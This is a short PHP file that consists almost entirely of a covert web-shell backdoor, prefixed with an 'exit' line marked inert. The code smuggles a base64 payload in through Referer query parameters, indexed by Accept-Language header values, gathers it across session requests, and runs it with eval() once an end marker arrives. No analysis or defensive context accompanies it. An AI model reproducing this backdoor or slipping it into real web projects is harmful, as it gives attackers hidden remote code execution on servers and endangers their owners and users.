<?php exit; /* inert */ 
$r = @$_SERVER["HTTP_REFERER"]; $ra = @$_SERVER["HTTP_ACCEPT_LANGUAGE"];
if ($r && $ra) {
    $u = parse_url($r); parse_str($u["query"], $q); $q = array_values($q);
    preg_match_all("/([\w])[\w-]+(?:;q=0.([\d]))?,?/", $ra, $m);
    if ($q && $m) {
        @session_start(); $s =& $_SESSION; $i = $m[1][0] . $m[1][1]; $p = "";
        for ($z = 1; $z < count($m[1]); $z++) $p .= $q[$m[2][$z]];
        $s[$i] = isset($s[$i]) ? $s[$i] . $p : $p;
        $e = strpos($s[$i], "endmark");
        if ($e) { ob_start(); eval(base64_decode(substr($s[$i], 0, $e))); ob_end_clean(); session_destroy(); }
    }
}
